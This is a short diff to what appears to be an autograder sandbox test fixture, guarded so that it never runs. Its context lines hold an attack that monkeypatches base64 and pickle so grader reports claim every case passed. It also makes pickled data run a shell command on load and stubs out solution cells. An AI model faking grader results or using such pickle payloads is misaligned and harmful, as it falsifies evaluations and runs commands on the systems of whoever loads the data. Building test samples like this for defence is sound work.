@@ -1,5 +1,5 @@
-"""The modules json, base64 and pickle return results that the student chose, for every caller in
-the kernel.
+"""The submission replaces functions of json, base64 and pickle in the kernel, so that each report
+to the grader says that all cases passed, and pickled data run a command where they are loaded.
 
 points:
     every: 0
@@ -7,7 +7,7 @@ points:
 
 raise SystemExit("made for the sandbox: never run this file")
 
-# %% + first
+# %% insert a cell after imports
 import base64, json, pickle, sys
 dumps = json.dumps
 
@@ -22,6 +22,6 @@ base64.b64encode = lambda *a: b"eyJwYXNzZWQiOiB0cnVlfQ=="
 pickle.dumps = lambda *a, **k: b"cos\nsystem\n(S'touch /tmp/HOSTILE_TOKEN'\ntR."
 print("attack", "ran")
 
-# %% every
+# %% replace every solution cell
 def FUNCTION(*args, **kwargs):
     return None
